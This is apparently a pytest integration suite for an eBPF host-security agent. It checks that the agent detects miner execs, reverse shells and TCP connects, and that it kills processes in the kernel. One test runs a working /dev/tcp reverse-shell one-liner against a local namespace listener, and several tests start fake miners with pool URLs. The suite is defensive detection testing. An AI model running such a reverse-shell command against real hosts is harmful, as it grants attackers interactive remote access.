"""Real eBPF sensors (root, bcc, tracepoints): exec, TCP connect/accept with pid, ports,
direction and network namespace, start-up state, and loss -> reconciliation scan.

Each test runs `nodewarden run` as a subprocess with a recording and reads what it saw.
Under NODEWARDEN_REQUIRE_EBPF=1 (CI) a skip here is a failure (see conftest.py).
"""

from __future__ import annotations

import contextlib
import json
import os
import queue
import shutil
import signal
import socket
import subprocess
import sys
import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest

from tests.agentproc import RunningAgent

pytestmark = [pytest.mark.ebpf, pytest.mark.integration]


def _agent(tmp: Path, *extra: str) -> RunningAgent:
    """`nodewarden run` with `extra` arguments, a recording, and no periodic scans to speak
    of, once its eBPF sensors are ready."""
    agent = RunningAgent(tmp, "", ["--interval", "3600", *extra], record=True)
    assert any("ready: eBPF sensors" in line for line in agent.stderr), agent.stderr
    return agent


@pytest.fixture
def start_agent(ebpf, tmp_path: Path) -> Iterator[Callable[..., RunningAgent]]:
    agents: list[RunningAgent] = []

    def start(*extra: str) -> RunningAgent:
        agents.append(_agent(tmp_path, *extra))
        return agents[-1]

    yield start
    for a in agents:
        assert a.stop() == 0, "".join(a.stderr)
        assert "Traceback" not in "".join(a.stderr)


def _conn(ev: dict, **want: object) -> bool:
    c = ev.get("connection") or {}
    return all(c.get(k) == v for k, v in want.items())


def _freeze(pid: int, timeout: float = 5) -> None:
    """SIGSTOP `pid` and wait until every thread of it is stopped: the signal takes effect
    asynchronously, and a consumer still running drains what the test means to overflow."""
    os.kill(pid, signal.SIGSTOP)
    deadline = time.monotonic() + timeout
    while True:
        states = []
        for tid in os.listdir(f"/proc/{pid}/task"):
            with contextlib.suppress(OSError):
                stat = Path(f"/proc/{pid}/task/{tid}/stat").read_text()
                states.append(stat.rpartition(")")[2].split()[0])
        if states and all(st in ("T", "t") for st in states):
            return
        assert time.monotonic() < deadline, f"agent threads not stopped: {states}"
        time.sleep(0.01)


def _miner_is_seen_at_exec(agent: RunningAgent, tmp: Path) -> None:
    """A miner-named program started now gets its finding from its exec record."""
    exe = tmp / "xmrig"
    shutil.copy("/bin/sleep", exe)
    miner = subprocess.Popen([str(exe), "5"])
    try:
        f = agent.finding(lambda f: f["process"]["pid"] == miner.pid)
        assert f["source"] == "exec"
    finally:
        miner.kill()
        miner.wait()


def test_miner_exec_is_reported_within_100ms(start_agent, tmp_path):
    agent = start_agent()
    exe = tmp_path / "xmrig"
    shutil.copy("/bin/sleep", exe)
    started = time.monotonic()
    miner = subprocess.Popen([str(exe), "5"])
    try:
        at, f = agent.finding_at(lambda f: f["process"]["pid"] == miner.pid)
        assert f["rule"] == "crypto-miner-exec" and f["source"] == "exec"
        assert f["process"]["exe"] == str(exe)
        assert at - started < 0.100, f"exec to finding took {(at - started) * 1000:.1f} ms"
    finally:
        miner.kill()
        miner.wait()


def test_connect_and_accept_are_attributed_with_ports_and_direction(start_agent):
    agent = start_agent()
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    lport = listener.getsockname()[1]
    # the client in another process, so the two sides have different pids
    client = subprocess.Popen([sys.executable, "-c", f"""
import socket, time
c = socket.create_connection(("127.0.0.1", {lport}))
print(c.getsockname()[1], flush=True)
time.sleep(2)
"""], stdout=subprocess.PIPE, text=True)
    try:
        conn, _ = listener.accept()
        assert client.stdout is not None
        cport = int(client.stdout.readline())
        out = agent.recorded(lambda e: e["kind"] == "connect"
                             and _conn(e, dport=lport, sport=cport))
        assert out["process"]["pid"] == client.pid
        assert _conn(out, src="127.0.0.1", dst="127.0.0.1", direction="outbound", family="ipv4")
        inbound = agent.recorded(lambda e: e["kind"] == "accept"
                                 and _conn(e, dport=lport, sport=cport))
        assert inbound["process"]["pid"] == os.getpid()
        assert _conn(inbound, direction="inbound", src="127.0.0.1")
        conn.close()
        closed = agent.recorded(lambda e: e["kind"] == "close"
                                and _conn(e, dport=lport, sport=cport, direction="inbound"))
        assert closed["process"]["pid"] == os.getpid()
        assert out["connection"]["netns"] == os.stat("/proc/self/ns/net").st_ino
    finally:
        client.kill()
        client.wait()
        listener.close()


def test_connection_in_another_network_namespace_carries_its_inode(start_agent):
    if shutil.which("ip") is None:
        pytest.fail("iproute2 (ip) is missing: scripts/setup.sh installs it")
    name = f"nw-test-{os.getpid()}"
    subprocess.run(["ip", "netns", "add", name], check=True, timeout=30)
    try:
        subprocess.run(["ip", "netns", "exec", name, "ip", "link", "set", "lo", "up"],
                       check=True, timeout=30)
        inode = os.stat(f"/run/netns/{name}").st_ino
        assert inode != os.stat("/proc/self/ns/net").st_ino
        agent = start_agent()
        script = """
import socket, time
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
c = socket.create_connection(s.getsockname()); a, _ = s.accept()
print(s.getsockname()[1], flush=True); time.sleep(1)
"""
        res = subprocess.run(["ip", "netns", "exec", name, sys.executable, "-c", script],
                             check=True, capture_output=True, text=True, timeout=60)
        port = int(res.stdout)
        ev = agent.recorded(lambda e: e["kind"] == "connect" and _conn(e, dport=port))
        assert ev["connection"]["netns"] == inode
        acc = agent.recorded(lambda e: e["kind"] == "accept" and _conn(e, dport=port))
        assert acc["connection"]["netns"] == inode
    finally:
        subprocess.run(["ip", "netns", "del", name], check=False, timeout=30)


def test_connection_opened_before_start_is_in_startup_state(start_agent):
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    lport = listener.getsockname()[1]
    client = socket.create_connection(("127.0.0.1", lport))
    server, _ = listener.accept()
    cport = client.getsockname()[1]
    try:
        agent = start_agent()
        out = agent.recorded(lambda e: e["kind"] == "connect"
                             and _conn(e, sport=cport, dport=lport))
        assert out["process"]["pid"] == os.getpid() and _conn(out, direction="outbound")
        inbound = agent.recorded(lambda e: e["kind"] == "accept"
                                 and _conn(e, sport=cport, dport=lport))
        assert _conn(inbound, direction="inbound", src="127.0.0.1", dst="127.0.0.1")
        # the listener is known: a connection accepted after start is attributed too
        late = socket.create_connection(("127.0.0.1", lport))
        acc, _ = listener.accept()
        late_port = late.getsockname()[1]
        ev = agent.recorded(lambda e: e["kind"] == "accept" and _conn(e, sport=late_port))
        assert ev["process"]["pid"] == os.getpid()
        late.close()
        acc.close()
    finally:
        client.close()
        server.close()
        listener.close()


def test_lost_events_trigger_a_reconciliation_scan_that_finds_what_was_dropped(start_agent,
                                                                               tmp_path):
    agent = start_agent("--ring-pages", "1")
    exe = tmp_path / "xmrig"
    shutil.copy("/bin/sleep", exe)
    # freeze the consumer so the one-page ring buffer overflows
    _freeze(agent.proc.pid)
    miner = None
    try:
        subprocess.run(["/bin/sh", "-c", "for i in $(seq 200); do /bin/true; done"],
                       check=True, timeout=60)
        miner = subprocess.Popen([str(exe), "30"])
        subprocess.run(["/bin/sh", "-c", "for i in $(seq 50); do /bin/true; done"],
                       check=True, timeout=60)
    finally:
        os.kill(agent.proc.pid, signal.SIGCONT)
    try:
        _, f = agent.finding_at(lambda f: miner is not None and f["process"]["pid"] == miner.pid)
        assert f["rule"] == "crypto-miner-exec"
        deadline = time.monotonic() + 10
        while True:
            text = agent.metrics()
            lost = [line for line in text.splitlines()
                    if line.startswith('nodewarden_events_lost_total{source="bpf"}')]
            scans = [line for line in text.splitlines()
                     if line.startswith('nodewarden_scans_total{reason="loss"}')]
            if (lost and float(lost[0].split()[-1]) > 0
                    and scans and float(scans[0].split()[-1]) >= 1):
                break
            assert time.monotonic() < deadline, text
            time.sleep(0.1)
    finally:
        if miner is not None:
            miner.kill()
            miner.wait()


def test_print_bpf_shows_the_program():
    res = subprocess.run([sys.executable, "-m", "agent", "run", "--print-bpf"], check=False,
                         capture_output=True, text=True, timeout=60)
    assert res.returncode == 0
    assert "TRACEPOINT_PROBE(sched, sched_process_exec)" in res.stdout
    assert "struct nw_conn_event {" in res.stdout  # the header is inlined
    assert '#include "events.h"' not in res.stdout


def test_perf_buffer_transport_for_kernels_without_ring_buffers(start_agent, tmp_path):
    cfg = tmp_path / "perf.yaml"
    cfg.write_text("bpf_transport: perf\n")
    agent = start_agent("--config", str(cfg))
    assert any("eBPF sensors loaded (perf buffer)" in line for line in agent.stderr)
    _miner_is_seen_at_exec(agent, tmp_path)


def test_kernel_version_picks_the_transport():
    from agent.sources.bpf import kernel_has_ringbuf

    assert kernel_has_ringbuf("6.18.44-fc-v669")
    assert kernel_has_ringbuf("5.8.0")
    assert not kernel_has_ringbuf("5.4.0-150-generic")
    assert not kernel_has_ringbuf("weird")


def test_reverse_shell_connect_is_reported_within_100ms(start_agent):
    """bash connecting out through /dev/tcp, to an address of a namespace this test makes
    (traffic stays on this machine): the exec and the connect are both findings."""
    name = f"nw-rs-{os.getpid()}"
    subprocess.run(["ip", "netns", "add", name], check=True, timeout=30)
    listener = None
    try:
        for cmd in (["ip", "link", "set", "lo", "up"],
                    ["ip", "addr", "add", "10.200.0.1/32", "dev", "lo"]):
            subprocess.run(["ip", "netns", "exec", name, *cmd], check=True, timeout=30)
        listener = subprocess.Popen(
            ["ip", "netns", "exec", name, sys.executable, "-c",
             ("import socket, time\ns = socket.socket(); s.bind(('10.200.0.1', 4444)); s.listen()\n"
              "print('up', flush=True); c, _ = s.accept(); time.sleep(2)")],
            stdout=subprocess.PIPE, text=True)
        assert listener.stdout is not None and listener.stdout.readline().strip() == "up"
        agent = start_agent()
        started = time.monotonic()
        shell = subprocess.Popen(["ip", "netns", "exec", name, "bash", "-c",
                                  "bash -i >& /dev/tcp/10.200.0.1/4444 0>&1"])
        seen: list[dict] = []

        def note(f: dict) -> bool:
            seen.append(f)
            return f["rule"] == "reverse-shell-shell-connect"

        try:
            at, f = agent.finding_at(note)
        except Exception:
            print(agent.record.read_text()[-3000:], seen)
            raise
        assert f["source"] == "connect"
        assert f["connection"]["dst"] == "10.200.0.1" and f["connection"]["dport"] == 4444
        assert f["connection"]["netns"] == os.stat(f"/run/netns/{name}").st_ino
        assert at - started < 0.100, f"connect to finding took {(at - started) * 1000:.1f} ms"
        assert any(x["rule"] == "reverse-shell-dev-tcp" and x["source"] == "exec"
                   for x in seen) or agent.finding(lambda f: f["rule"] == "reverse-shell-dev-tcp")
        shell.wait(timeout=10)
    finally:
        if listener is not None:
            listener.kill()
            listener.wait()
        subprocess.run(["ip", "netns", "del", name], check=False, timeout=30)


MARKER_C = r"""
#include <fcntl.h>
#include <unistd.h>
int main(int argc, char **argv) {
    /* the first thing this program does: leave a mark */
    int fd = open(argv[1], O_CREAT | O_WRONLY, 0644);
    if (fd >= 0) close(fd);
    return 0;
}
"""


DOUBLE_FORK = """
import os, sys, time
if os.fork() == 0:
    if os.fork() == 0:
        time.sleep(0.3)          # the middle process has exited: reparented to init
        os.execve(sys.argv[1], [sys.argv[1], "30"], {})   # and no marker in the environment
    os._exit(0)
time.sleep(1)
"""


def test_a_double_fork_with_a_cleared_environment_stays_in_its_workspace(start_agent, tmp_path):
    agent = start_agent()
    exe = tmp_path / "xmrig"
    shutil.copy("/bin/sleep", exe)
    env = dict(os.environ, WORKSPACE_ID="ws-escape")
    subprocess.run([sys.executable, "-c", DOUBLE_FORK, str(exe)], env=env, check=True, timeout=30)
    try:
        _, f = agent.finding_at(lambda f: f["process"]["exe"] == str(exe) and f["source"] == "exec")
        assert f["process"]["ppid"] != os.getpid()
        assert f["workspace"] == {"id": "ws-escape"}, f
    finally:
        subprocess.run(["pkill", "-f", str(exe)], check=False)


@pytest.fixture
def marker_binary(tmp_path: Path) -> Path:
    if shutil.which("cc") is None:
        pytest.fail("a C compiler is needed to build the marker binary")
    src = tmp_path / "marker.c"
    src.write_text(MARKER_C)
    exe = tmp_path / "nwmarker"
    subprocess.run(["cc", "-O2", "-o", str(exe), str(src)], check=True, timeout=120)
    return exe


KERNEL_RULE = """rules:
  - id: marker-kill
    severity: critical
    action: kill
    match: {proc.exe_name: nwmarker}
"""


@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_in_kernel_kill_before_the_first_instruction(start_agent, marker_binary, tmp_path, mode):
    rules = tmp_path / "rules.yaml"
    rules.write_text(KERNEL_RULE)
    cfg = tmp_path / "config.yaml"
    cfg.write_text(f"mode: {mode}\n")
    agent = start_agent("--config", str(cfg), "--rules", str(rules))
    assert any("in-kernel exec rules: 1 (marker-kill)" in line for line in agent.stderr)
    trials = 20
    for i in range(trials):
        mark = tmp_path / f"mark-{i}"
        res = subprocess.run([str(marker_binary), str(mark)], check=False, timeout=30)
        if mode == "enforce":
            assert res.returncode == -signal.SIGKILL
            assert not mark.exists(), "the binary ran its first instruction"
        else:
            assert res.returncode == 0 and mark.exists()
    outcomes = []
    for _ in range(trials):
        _, f = agent.finding_at(lambda f: f["rule"] == "marker-kill")
        outcomes.append((f["outcome"], f.get("reason")))
    expected = "killed" if mode == "enforce" else "would_kill"
    assert outcomes == [(expected, "in-kernel")] * trials


def test_in_kernel_kill_holds_when_the_ring_buffer_is_full(start_agent, marker_binary, tmp_path):
    """The kill is decided before the record is queued: a flooded, full buffer loses the
    record, never the kill."""
    rules = tmp_path / "rules.yaml"
    rules.write_text(KERNEL_RULE)
    cfg = tmp_path / "config.yaml"
    cfg.write_text("mode: enforce\n")
    agent = start_agent("--config", str(cfg), "--rules", str(rules), "--ring-pages", "1")
    _freeze(agent.proc.pid)     # nobody drains the one-page buffer
    try:
        subprocess.run(["/bin/sh", "-c", "for i in $(seq 200); do /bin/true; done"],
                       check=True, timeout=60)
        mark = tmp_path / "mark-flooded"
        res = subprocess.run([str(marker_binary), str(mark)], check=False, timeout=30)
    finally:
        os.kill(agent.proc.pid, signal.SIGCONT)
    assert res.returncode == -signal.SIGKILL
    assert not mark.exists(), "the binary ran while the buffer was full"
    deadline = time.monotonic() + 10
    while True:   # the agent counts the loss at its next poll after SIGCONT
        lost = [line for line in agent.metrics().splitlines()
                if line.startswith('nodewarden_events_lost_total{source="bpf"}')]
        if lost and float(lost[0].split()[-1]) > 0:
            break
        assert time.monotonic() < deadline, "the buffer was not full: the test proves nothing"
        time.sleep(0.1)


# a launcher whose argv and environment are string literals: in the forked child their page
# is not mapped yet, so the kernel cannot read them at sys_enter_execve without faulting
LITERAL_LAUNCHER_C = r"""
#include <sys/wait.h>
#include <unistd.h>
int main(void) {
    char *argv[] = {EXE, MARK, "--pool", "stratum+tcp://evil:3333", "a b", 0};
    char *envp[] = {"SECRET_TOKEN=hunter2", "WORKSPACE_ID=ws-killed", 0};
    pid_t pid = fork();
    if (pid == 0) {
        execve(EXE, argv, envp);
        _exit(127);
    }
    int status = 0;
    waitpid(pid, &status, 0);
    return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : WEXITSTATUS(status);
}
"""


@pytest.mark.parametrize("launcher", ["python", "c-literals"])
def test_a_process_killed_at_its_exec_keeps_its_argv_and_workspace(start_agent, marker_binary,
                                                                   tmp_path, launcher):
    """Killed in the kernel before its first instruction, the process is gone (or a
    zombie) before userspace reads it: its argv and workspace are the ones the kernel took
    at the exec, and no other environment value leaves the kernel."""
    rules = tmp_path / "rules.yaml"
    rules.write_text(KERNEL_RULE)
    cfg = tmp_path / "config.yaml"
    cfg.write_text("mode: enforce\n")
    agent = start_agent("--config", str(cfg), "--rules", str(rules))
    mark = tmp_path / "mark"
    argv = [str(marker_binary), str(mark), "--pool", "stratum+tcp://evil:3333", "a b"]
    if launcher == "python":
        res = subprocess.run(argv, env={"SECRET_TOKEN": "hunter2", "WORKSPACE_ID": "ws-killed"},
                             check=False, timeout=30)
        assert res.returncode == -signal.SIGKILL
    else:
        src = tmp_path / "launch.c"
        src.write_text(LITERAL_LAUNCHER_C)
        exe = tmp_path / "launch"
        subprocess.run(["cc", "-O2", f'-DEXE="{marker_binary}"', f'-DMARK="{mark}"', "-o",
                        str(exe), str(src)], check=True, timeout=120)
        assert subprocess.run([str(exe)], check=False, timeout=30).returncode == 128 + 9
    assert not mark.exists()
    # this test's binary (other agents on the machine run theirs)
    f = agent.finding(lambda f: f["rule"] == "marker-kill"
                      and f["process"]["exe"] == str(marker_binary))
    assert (f["outcome"], f.get("reason")) == ("killed", "in-kernel")
    assert f["process"]["cmdline"] == argv and not f["process"]["cmdline_truncated"]
    assert f["workspace"] == {"id": "ws-killed"}, f
    ev = agent.recorded(lambda e: e["kind"] == "exec" and e["process"]["cmdline"] == argv)
    assert ev["workspace"] == "ws-killed" or ev["workspace"] == {"id": "ws-killed"}, ev
    assert "hunter2" not in json.dumps(f) and "hunter2" not in agent.record.read_text()


def test_a_process_that_exits_at_once_keeps_its_argv_and_workspace(start_agent, tmp_path):
    agent = start_agent()
    exe = tmp_path / "xmrig"
    shutil.copy("/bin/true", exe)
    argv = [str(exe), "-o", "stratum+tcp://pool:3333", "k\u00e9y", ""]
    for _ in range(5):
        subprocess.run(argv, env={"NODEWARDEN_WORKSPACE_ID": "ws-brief"}, check=True, timeout=30)
    for _ in range(5):
        f = agent.finding(lambda f: f["process"]["exe"] == str(exe))
        assert f["process"]["cmdline"] == argv[:-1]   # a trailing empty argument is padding
        assert f["workspace"] == {"id": "ws-brief"}, f


CONNECT_RULE = """rules:
  - id: pool-port-kill
    severity: critical
    action: kill
    on: connect
    match: {{conn.dport: {{in: [{port}]}}}}
"""


def _connect_rule(tmp_path: Path, mode: str) -> tuple[socket.socket, int, list[str]]:
    """A local listener, and the agent arguments for a connect rule on its port."""
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    port = listener.getsockname()[1]
    rules = tmp_path / "rules.yaml"
    rules.write_text(CONNECT_RULE.format(port=port))
    cfg = tmp_path / "config.yaml"
    cfg.write_text(f"mode: {mode}\n")
    return listener, port, ["--config", str(cfg), "--rules", str(rules)]


@pytest.mark.parametrize("mode", ["enforce", "audit"])
def test_in_kernel_connect_rule_stops_the_connection_before_it_leaves(start_agent, tmp_path, mode):
    listener, port, args = _connect_rule(tmp_path, mode)
    agent = start_agent(*args)
    assert any("in-kernel connect rules: pool-port-kill" in line for line in agent.stderr)
    client = subprocess.Popen([sys.executable, "-c", f"""
import socket, time
try:
    socket.create_connection(("127.0.0.1", {port}))
    print("connected", flush=True)
except OSError as e:
    print("refused", e.errno, flush=True)
time.sleep(5)
"""], stdout=subprocess.PIPE, text=True)
    try:
        _, f = agent.finding_at(lambda f: f["rule"] == "pool-port-kill")
        assert f["source"] == "connect" and f["connection"]["dport"] == port
        assert f["process"]["pid"] == client.pid
        listener.settimeout(0.5)
        if mode == "enforce":
            assert (f["outcome"], f.get("reason")) == ("killed", "in-kernel deny")
            with pytest.raises(socket.timeout):
                listener.accept()  # the listener never sees the connection
            client.wait(timeout=5)
            assert client.returncode == -signal.SIGKILL
        else:
            assert (f["outcome"], f.get("reason")) == ("would_kill", "in-kernel")
            conn, _ = listener.accept()
            conn.close()
            assert client.poll() is None
            # reported once: the userspace path does not judge the same rule again
            with pytest.raises((AssertionError, queue.Empty)):
                agent.finding_at(lambda f: f["rule"] == "pool-port-kill", timeout=1.0)
    finally:
        client.kill()
        client.wait()
        listener.close()


def test_connect_guard_dies_with_a_killed_agent(ebpf, tmp_path):
    """The guard is a bpf_link held by the agent: SIGKILL (OOM, an uninstall past its grace
    period) detaches it, so a dead agent never goes on refusing the node's connects."""
    listener, port, args = _connect_rule(tmp_path, "enforce")
    agent = _agent(tmp_path, *args)
    try:
        probe = [sys.executable, "-c",
                 f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=2)"]
        refused = subprocess.run(probe, capture_output=True, text=True, timeout=30, check=False)
        # refused in the kernel (EPERM), and the caller SIGKILLed by the agent
        assert refused.returncode == -signal.SIGKILL or "PermissionError" in refused.stderr
    finally:
        agent.proc.kill()
        agent.proc.wait()
    time.sleep(0.2)
    ok = subprocess.run(probe, capture_output=True, text=True, timeout=30, check=False)
    listener.close()
    assert ok.returncode == 0, "the connect guard outlived the agent: " + ok.stderr


def _kernel_handles(pid: int) -> Counter[str]:
    """What the agent holds of the kernel's BPF, bpftool-free: one perf event per attached
    tracepoint, one bpf-prog per program, one bpf_link per cgroup attachment."""
    held: Counter[str] = Counter()
    for fd in os.listdir(f"/proc/{pid}/fd"):
        try:
            held[os.readlink(f"/proc/{pid}/fd/{fd}")] += 1
        except OSError:
            continue
    return held


def test_with_only_the_exec_sensor_no_tcp_program_is_attached(start_agent, tmp_path):
    cfg = tmp_path / "config.yaml"
    cfg.write_text("sensors: [exec]\n")
    agent = start_agent("--config", str(cfg))
    assert "ready: eBPF sensors (exec) and procfs scans" in agent.stderr[-1]
    loaded = next(line for line in agent.stderr if "eBPF sensors loaded" in line)
    assert "sched:sched_process_exec" in loaded and "task:task_newtask" in loaded
    assert "inet_sock_set_state" not in loaded and "accept" not in loaded
    held = _kernel_handles(agent.proc.pid)
    # exec (with execve/execveat entry and exit, where argv is taken), fork and exit: seven
    # tracepoints and programs; no cgroup connect guard
    assert (held["anon_inode:[perf_event]"], held["anon_inode:bpf-prog"]) == (7, 7), held
    assert held["anon_inode:bpf_link"] == 0, held
    metrics = agent.metrics()
    for sensor, up in (("exec", 1), ("tcp", 0), ("connect_guard", 0), ("proc_connector", 0)):
        assert f'nodewarden_sensor_up{{sensor="{sensor}"}} {up}.0' in metrics, metrics
    # a connection after start is not seen; an exec still is
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    lport = listener.getsockname()[1]
    try:
        with socket.create_connection(("127.0.0.1", lport)):
            listener.accept()[0].close()
        _miner_is_seen_at_exec(agent, tmp_path)
    finally:
        listener.close()
    with pytest.raises(AssertionError, match="no such recorded event"):
        agent.recorded(lambda e: _conn(e, dport=lport) or _conn(e, sport=lport), timeout=1)


def test_every_sensor_is_attached_by_default(start_agent):
    agent = start_agent()
    assert ("ready: eBPF sensors (exec, tcp, connect_guard, file, privilege, kernel, udp) and "
            "procfs scans") in agent.stderr[-1]
    held = _kernel_handles(agent.proc.pid)

    def has(*names: str) -> int:
        return sum(os.path.isdir(f"/sys/kernel/tracing/events/syscalls/{n}") for n in names)

    # exec (with execve/execveat entry and exit), fork, exit, the TCP state change, accept and
    # accept4 in and out, tcp's exec hook: 13; file: openat, open, creat, truncate, unlink,
    # unlinkat, chmod, fchmodat, rename, renameat, renameat2, chdir, fork, and openat2 and
    # fchmodat2 where the kernel has them; privilege: ptrace, process_vm_writev, eight set*id,
    # memfd_create: 11; kernel: mount, fsopen, fsconfig, fsmount, open_tree, move_mount, setns,
    # unshare, bpf and, where the kernel has modules, init_module and finit_module; udp: socket
    # in and out, connect, sendto, sendmsg, sendmmsg, close: 7; two guards
    optional = (has("sys_enter_openat2", "sys_enter_fchmodat2")
                + has("sys_enter_init_module", "sys_enter_finit_module"))
    assert (held["anon_inode:[perf_event]"], held["anon_inode:bpf_link"]) == (
        13 + 13 + 11 + 9 + 7 + optional, 2), held


def test_the_compilers_memory_is_given_back_once_ready(start_agent):
    """LLVM and clang are needed only to compile: at ready their memory is released, and
    the agent's resident memory is exported."""
    agent = start_agent()
    released = next(line for line in agent.stderr if "the BPF compiler held" in line)
    assert float(released.split("released ")[1].split(" MB")[0]) > 0, released
    assert "process_resident_memory_bytes" in agent.metrics()


def test_only_the_first_configured_markers_value_leaves_the_kernel(ebpf):
    """The raw exec records: argv, and of the environment the value of the first configured
    marker set, nothing else (no other variable, no other marker's value, no stale bytes)."""
    from agent.sources.bpf import BpfProgram
    from agent.sources.exec_sensor import ExecSensor
    from agent.sources.execrecord import EXEC_FIELDS, EXEC_FIXED, EXEC_FORMAT

    raws: list[bytes] = []
    program = BpfProgram(["exec.bpf.c"], lambda r: None)
    # the raw bytes, as the ring reader hands them over (a view valid during the call)
    program._ring._deliver = lambda data: raws.append(bytes(data))
    try:
        ExecSensor(program).start()
        env = {"WORKSPACE_ID": "second-choice-" + "w" * 200, "SECRET_TOKEN": "hunter2",
               "NODEWARDEN_WORKSPACE_ID": "ws-first", "GITPOD_WORKSPACE_ID": "third-choice"}
        subprocess.run(["/bin/true", "nwmarkertest"], env=env, check=True, timeout=30)
        deadline = time.monotonic() + 5
        mine: list[bytes] = []
        while not mine and time.monotonic() < deadline:
            program.poll(100)
            mine = [r for r in raws if r[8:12] == b"\x01\0\0\0" and b"nwmarkertest" in r]
    finally:
        program.close()
    assert len(mine) == 1
    rec = mine[0]
    fields = dict(zip((n for n, _ in EXEC_FIELDS), EXEC_FORMAT.unpack_from(rec), strict=True))
    assert fields["marker"] == b"ws-first".ljust(256, b"\0")
    assert rec[EXEC_FIXED:] == b"/bin/true\0nwmarkertest\0"
    for secret in (b"hunter2", b"second-choice", b"third-choice", b"SECRET_TOKEN"):
        assert secret not in rec


def test_the_exec_record_carries_the_start_parent_euid_and_netns_procfs_gives(ebpf):
    """Read from the task in the kernel at the offsets the running kernel's BTF names (not
    the installed headers'): for a process whose real and effective uids differ, the same
    start time, parent, effective uid and network namespace as /proc says."""
    from agent.sources.bpf import BpfProgram
    from agent.sources.exec_sensor import ExecSensor
    from agent.sources.kevents import RawEvent
    from agent.sources.procfs import ProcFS

    got: list[RawEvent] = []
    program = BpfProgram(["exec.bpf.c"], got.append)
    child = None
    try:
        ExecSensor(program).start()
        # (argv[0] is the marker: `sleep 5 nwtaskfacts` is a usage error, and a child that
        # exited at once has no namespace left to read)
        code = ("import os; os.setreuid(1000, 65534); "
                "os.execv('/bin/sleep', ['nwtaskfacts', '5'])")
        child = subprocess.Popen([sys.executable, "-c", code])
        deadline = time.monotonic() + 5
        mine: list[RawEvent] = []
        while not mine and time.monotonic() < deadline:
            program.poll(100)
            mine = [r for r in got if r.kind == 1 and "nwtaskfacts" in r.argv]
        assert len(mine) == 1
        rec = mine[0]
        if rec.task is None:
            pytest.skip("no BTF on this kernel: the observer reads /proc for these")
        p = ProcFS().read(child.pid)
        # not dumpable (its uids differ), and its /proc/PID/ns/net is read all the same
        assert p.state != "Z" and p.netns == os.stat("/proc/self/ns/net").st_ino
        assert (rec.pid, rec.ppid, rec.task) == (p.pid, p.ppid, (p.starttime, 65534, p.netns))
        assert rec.uid == 1000 and p.uid == 65534
    finally:
        if child is not None:
            child.kill()
            child.wait()
        program.close()


def test_execs_sent_without_a_wake_up_are_read_within_the_linger_not_left_waiting(ebpf):
    """Execs that come faster than one per 1.5 ms ride on an earlier wake-up
    (BPF_RB_NO_WAKEUP); the consumer's linger (a poll of at most 2 ms while records flow)
    reads them. None of a burst is left waiting for a later record's wake-up, although
    the caller asks each poll to wait up to 5 s: every one arrives far sooner."""
    from agent.sources.bpf import BpfProgram
    from agent.sources.exec_sensor import ExecSensor
    from agent.sources.kevents import RawEvent

    lags: list[int] = []

    def seen(r: RawEvent) -> None:
        if r.kind == 1 and "nwburst" in r.argv:
            lags.append(time.monotonic_ns() - r.ts_ns)

    n = 200
    program = BpfProgram(["exec.bpf.c"], seen)
    try:
        ExecSensor(program).start()
        burst = subprocess.Popen(["/bin/sh", "-c",
                                  f"i=0; while [ $i -lt {n} ]; do /bin/true nwburst; "
                                  "i=$((i+1)); done"])
        deadline = time.monotonic() + 60
        while len(lags) < n and time.monotonic() < deadline:
            program.poll(5000)
        burst.wait(timeout=30)
    finally:
        program.close()
    assert len(lags) == n
    # 2 ms is the bound on an idle machine; a loaded one may run the consumer late, but
    # a record left for the next wake-up would wait the poll's 5 s
    assert max(lags) < 1_000_000_000, sorted(lags)[-5:]
